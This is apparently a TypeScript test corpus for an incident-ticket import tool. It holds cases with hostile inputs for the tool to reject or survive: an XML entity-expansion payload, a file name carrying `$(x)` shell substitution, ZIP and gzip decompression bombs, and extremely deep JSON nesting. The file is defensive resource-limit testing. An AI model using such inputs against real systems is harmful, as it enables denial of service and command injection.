  { id: 'xes-event-without-timestamp', category: 'xes', file: 'log.xes',
    bytes: () => text(`${XES_HEAD}${xesTrace('C1', xesEvent('Open', '2024-03-01T08:00:00.000+01:00') + xesEvent('Assign') + xesEvent('Close', '2024-03-02T08:00:00.000+01:00'))}</log>`),
    expect: { loaded: { read: 3, loaded: 2, rejected: 1, rejects: [[3, /no timestamp/]] } } },
  { id: 'xes-entity-expansion', category: 'xes', file: 'log.xes',
    bytes: () => text(`<?xml version="1.0"?><!DOCTYPE log [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>` +
      `<log xes.version="1.0">${xesTrace('C1', xesEvent('&c;', '2024-03-01T08:00:00.000+01:00'))}</log>`),
    expect: ok(1, { check: { sql: `SELECT new_value FROM ticket_event`, rows: [{ new_value: '&c;' }] } }) },

  // ── paths ─────────────────────────────────────────────────────────────────────────────────────────────
  { id: 'odd-file-name', category: 'paths', file: `it's "odd" ; é $(x).csv`, bytes: () => csv(H, row(1)), expect: ok(1) },
  { id: 'glob-without-match', category: 'paths', file: 'nothing-*.csv', bytes: () => Buffer.alloc(0), expect: { refused: /no file matches '.*nothing-\*\.csv'/ } },
];

// ── bounded resources (issue 25): scaled-down shapes of the probe's hostile files ─────────────────────
const colName = (n: number): string => (n > 26 ? colName(Math.floor((n - 1) / 26)) : '') + String.fromCharCode(65 + ((n - 1) % 26));
/** The workbook of `rows` (sheet XML), with the shared-string part replaced by `sst` when given. */
function rawWorkbook(rows: string, sst?: string): Buffer {
  const base = workbook({ sheets: [{ name: 'Page 1', rows }] });
  return zip(unzipStored(base).map((p) => (sst !== undefined && p.name === 'xl/sharedStrings.xml' ? { name: p.name, data: sst } : p)));
}
const xlHead = xrow(1, XL_HEADER) + xlData(1, 1);
const jsonRec = (i: number, extra: Record<string, unknown> = {}) => ({ number: `INC${i}`, short_description: `Case ${i}`, opened_at: '2024-03-13 08:00:00', ...extra });
const xesKeyPerEvent = (n: number) =>
  text(`${XES_HEAD}${xesTrace('C1', Array.from({ length: n }, (_, i) => `<event><string key="concept:name" value="a"/><date key="time:timestamp" value="2024-03-01T08:00:00.000+01:00"/><string key="k${i}" value="v"/></event>`).join(''))}</log>`);
const wideCsv = (k: number, rows: number) =>
  csv(H + Array.from({ length: k }, (_, i) => `,u_col${i}`).join(''), ...Array.from({ length: rows }, (_, r) => row(r + 1) + Array.from({ length: k }, (_, i) => `,v${i}`).join('')));

/** As wideCsv (one opening time for all), with every cell of record `breaks` (1 = the first) holding a line break: `"a<LF>b"`. */
const wideCsvBreaks = (k: number, rows: number, breaks: number) =>
  csv(H + Array.from({ length: k }, (_, i) => `,u_col${i}`).join(''), ...Array.from({ length: rows }, (_, r) => row(r + 1, undefined, '2024-03-13 08:00:00') + Array.from({ length: k }, (_, i) => (r + 1 === breaks ? ',"a\nb"' : `,v${i}`)).join('')));

export const BOUNDS: CorpusCase[] = [
  { id: 'xlsx-row-past-excel', category: 'xlsx', file: 'incident.xlsx', budget: { seconds: 20, mb: 400 },
    bytes: () => rawWorkbook(xlHead + `<row r="2000000000">${cell('A2000000000', 'INC9')}</row>`),
    expect: { refused: /incident\.xlsx \(sheet 'Page 1'\): row 2,000,000,000 is past Excel's last row 1,048,576/ } },
  { id: 'xlsx-column-past-xfd', category: 'xlsx', file: 'incident.xlsx', budget: { seconds: 20, mb: 400 },
    bytes: () => rawWorkbook(xlHead + `<row r="3">${cell('ZZZZZZ3', 'v')}</row>`),
    expect: { refused: /incident\.xlsx \(sheet 'Page 1'\): cell ZZZZZZ3 is past Excel's last column XFD/ } },
  // 2.6 KB: a 300-column header and a row a million rows down would write ~300 MB of empty records
  { id: 'xlsx-row-gap-amplifies', category: 'xlsx', file: 'incident.xlsx', budget: { seconds: 20, mb: 400 },
    bytes: () => rawWorkbook(`<row r="1">${[...XL_HEADER, ...Array.from({ length: 296 }, (_, i) => `u_${i}`)].map((h, i) => cell(colName(i + 1) + 1, h)).join('')}</row>` + xrow(2, ['INC1', 'a', '2024-03-13 08:00:00', 'C']) + `<row r="1000000">${cell('A1000000', 'INC9')}</row>`),
    expect: { refused: /incident\.xlsx.*converted CSV would exceed 64 MB.*over the ratio limit of 200/ } },
  // 70 MB of empty shared strings deflated to ~70 KB (the probe's 183M of them aborted V8)
  { id: 'xlsx-shared-strings-bomb', category: 'xlsx', file: 'incident.xlsx', budget: { seconds: 30, mb: 600 },
    bytes: () => rawWorkbook(xlHead, `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${'<si/>'.repeat(14_000_000)}</sst>`),
    expect: { refused: /incident\.xlsx.*sharedStrings\.xml inflates to more than 64 MB.*over the ratio limit/ } },
  { id: 'xlsx-cell-over-line-limit', category: 'xlsx', file: 'incident.xlsx', args: ['--limit', 'line=1MB'], budget: { seconds: 20, mb: 400 },
    bytes: () => rawWorkbook(xlHead + xrow(3, ['INC3', 'x'.repeat(2 << 20), '2024-03-13 08:00:00', 'C'])),
    expect: { refused: /incident\.xlsx \(sheet 'Page 1'\): .*over the line limit of 1 MB; if the file is genuine, raise it with --limit line=4MB/ } },
  // quadratic before: an 8 MB attribute took 4.6 s to convert, a 32 MB whitespace run 10.5 s (now ~0.1 s each)
  { id: 'xlsx-long-attribute', category: 'xlsx', file: 'incident.xlsx', budget: { seconds: 20, mb: 600 },
    bytes: () => rawWorkbook(xlHead + `<row r="3" x="${'a'.repeat(8 << 20)}">${cell('A3', 'INC3')}${cell('B3', 'b')}${cell('C3', '2024-03-13 08:00:00')}</row>`),
    expect: ok(2, { check: { sql: 'SELECT source_id, source_row FROM ticket ORDER BY 2', rows: [{ source_id: 'INC1', source_row: 2 }, { source_id: 'INC3', source_row: 3 }] } }) },
  { id: 'xlsx-whitespace-run', category: 'xlsx', file: 'incident.xlsx', budget: { seconds: 20, mb: 600 },
    bytes: () => rawWorkbook(xlHead + ' '.repeat(32 << 20) + xrow(3, ['INC3', 'b', '2024-03-13 08:00:00', 'C'])),
    expect: ok(2) },

  { id: 'json-arrays-nested-100k', category: 'json', file: 'incident.json', budget: { seconds: 20, mb: 400 },
    bytes: () => text(JSON.stringify([jsonRec(1)]).slice(0, -2) + ',"x":' + '['.repeat(100_000) + ']'.repeat(100_000) + '}]'),
    expect: { refused: /incident\.json: arrays or objects nested more than 64 deep.*over the depth limit of 64; if the file is genuine, raise it with --limit depth=256/ } },
  { id: 'json-objects-nested-5k', category: 'json', file: 'incident.json', budget: { seconds: 20, mb: 400 },
    bytes: () => text(JSON.stringify([jsonRec(1)]).slice(0, -2) + ',"x":' + '{"a":'.repeat(5000) + '1' + '}'.repeat(5000) + '}]'),
    expect: { refused: /incident\.json: arrays or objects nested more than 64 deep/ } },
  { id: 'json-keys-over-limit', category: 'json', file: 'incident.json', args: ['--limit', 'columns=1000'], budget: { seconds: 20, mb: 400 },
    bytes: () => text(JSON.stringify([jsonRec(1, Object.fromEntries(Array.from({ length: 1200 }, (_, i) => [`k${i}`, `v${i}`])))])),
    expect: { refused: /incident\.json: 1,203 fields.*over the columns limit of 1,000/ } },
  // 241 s for 10k keys before (DuckDB's common-subexpression pass over the wide insert)
  { id: 'json-many-keys', category: 'json', file: 'incident.json', budget: { seconds: 60, mb: 800 },
    bytes: () => text(JSON.stringify([jsonRec(1, Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`k${i}`, `v${i}`])))])),
    expect: ok(1, { check: { sql: `SELECT extra->>'k999' AS v FROM ticket`, rows: [{ v: 'v999' }] } }) },
  { id: 'json-new-key-per-record', category: 'json', file: 'incident.json', budget: { seconds: 60, mb: 800 },
    bytes: () => text(JSON.stringify(Array.from({ length: 600 }, (_, i) => jsonRec(i + 1, { [`k${i}`]: 'v' })))),
    expect: ok(600) },

  { id: 'xes-keys-over-limit', category: 'xes', file: 'log.xes', args: ['--limit', 'columns=1000'], budget: { seconds: 20, mb: 400 },
    bytes: () => xesKeyPerEvent(1200),
    expect: { refused: /log\.xes: more than 1,000 distinct attribute keys, over the columns limit of 1,000/ } },
  { id: 'xes-new-key-per-event', category: 'xes', file: 'log.xes', budget: { seconds: 60, mb: 800 },
    bytes: () => xesKeyPerEvent(600),
    expect: ok(600) },

  { id: 'csv-columns-over-limit', category: 'size', file: 'incident.csv', budget: { seconds: 20, mb: 400 },
    bytes: () => csv(H + Array.from({ length: 100_000 }, (_, i) => `,c${i}`).join(''), row(1)),
    expect: { refused: /incident\.csv: the header has 100,006 columns, over the columns limit of 16,384; if the file is genuine, raise it with --limit columns=/ } },
  // 10k filled columns took 165 s before; quadratic in the columns (2,000: 12.5 s, 4,000: over 40 s)
  { id: 'csv-wide-filled', category: 'size', file: 'incident.csv', budget: { seconds: 60, mb: 800 },
    bytes: () => wideCsv(1500, 5),
    expect: ok(5, { check: { sql: `SELECT extra->>'u_col1499' AS v FROM ticket WHERE source_row = 6`, rows: [{ v: 'v1499' }] } }) },
  // Line breaks in 1,200 columns of one record: their sum was a chain of 1,200 additions, past DuckDB's expression
  // depth of 1,000 ("Max expression depth limit of 1000 exceeded": the file could not be loaded). Record 3 spans
  // lines 4-1,204, so record 4 is on line 1,205.
  { id: 'csv-wide-line-breaks', category: 'size', file: 'incident.csv', budget: { seconds: 60, mb: 800 },
    bytes: () => wideCsvBreaks(1200, 5, 3),
    expect: ok(5, { check: { sql: `SELECT source_row, extra->>'u_col1199' AS v FROM ticket WHERE source_row > 2 ORDER BY 1`, rows: [
      { source_row: 3, v: 'v1199' }, { source_row: 4, v: 'a\nb' }, { source_row: 1205, v: 'v1199' }, { source_row: 1206, v: 'v1199' }] } }) },
  // The same after the 200 records the head samples (record 240): the read counts no column's line breaks, the
  // file's lines show some unaccounted for, and every column is counted in one pass (it was an aggregate per column,
  // and the sum of 1,200 columns past the expression depth). Record 240 is on line 241, record 241 on 241 + 1,201.
  { id: 'csv-wide-late-line-breaks', category: 'size', file: 'incident.csv', budget: { seconds: 60, mb: 800 },
    bytes: () => wideCsvBreaks(1200, 250, 240),
    expect: ok(250, { check: { sql: `SELECT source_row, extra->>'u_col0' AS v FROM ticket WHERE source_row BETWEEN 240 AND 1443 ORDER BY 1`, rows: [
      { source_row: 240, v: 'v0' }, { source_row: 241, v: 'a\nb' }, { source_row: 1442, v: 'v0' }, { source_row: 1443, v: 'v0' }] } }) },
  { id: 'crlf-line-in-lf-file', category: 'quoting and delimiters', file: 'incident.csv', budget: { seconds: 20, mb: 400 },
    bytes: () => text([H, row(1), row(2, '"two\r\nlines"') + '\r', row(3), row(4)].join('\n') + '\n'),
    expect: ok(4, { check: { sql: `SELECT source_row, title, priority_raw FROM ticket ORDER BY 1`, rows: [
      { source_row: 2, title: 'Case 1', priority_raw: '3 - Moderate' }, { source_row: 3, title: 'two\nlines', priority_raw: '3 - Moderate' },
      { source_row: 5, title: 'Case 3', priority_raw: '3 - Moderate' }, { source_row: 6, title: 'Case 4', priority_raw: '3 - Moderate' }] } }) },
  { id: 'line-over-limit', category: 'size', file: 'incident.csv', args: ['--limit', 'line=1MB'], budget: { seconds: 20, mb: 400 },
    bytes: () => csv(H, row(1), row(2, 'x'.repeat(2 << 20)), row(3)),
    expect: { loaded: { read: 3, loaded: 2, rejected: 1, rejects: [[3, /line size over maximum: the line is 2,097,\d{3} bytes, over the line limit of 1 MB; raise it with --limit line=4MB/]] } } },
  { id: 'gzip-bomb', category: 'compression', file: 'incident.csv.gz', budget: { seconds: 30, mb: 400 },
    bytes: () => gzipSync(Buffer.concat([csv(H, row(1)), Buffer.alloc(80 << 20, 0x20)]), { level: 9 }),
    expect: { refused: /incident\.csv\.gz: decompresses to more than 64 MB, over the ratio limit of 200/ } },
];
CORPUS.push(...BOUNDS);

/** Writes every case into `dir/<id>/<file>` and returns the path of each case's input. */
export function writeCorpus(dir: string): Map<string, string> {
  const paths = new Map<string, string>();
  for (const c of CORPUS) {
    const folder = join(dir, c.id);
    mkdirSync(folder, { recursive: true });
    const path = join(folder, c.file);
    // a glob case names a file that must not exist
    if (!/[*?]/.test(c.file)) writeFileSync(path, c.bytes());
    paths.set(c.id, path);
  }
  return paths;
}
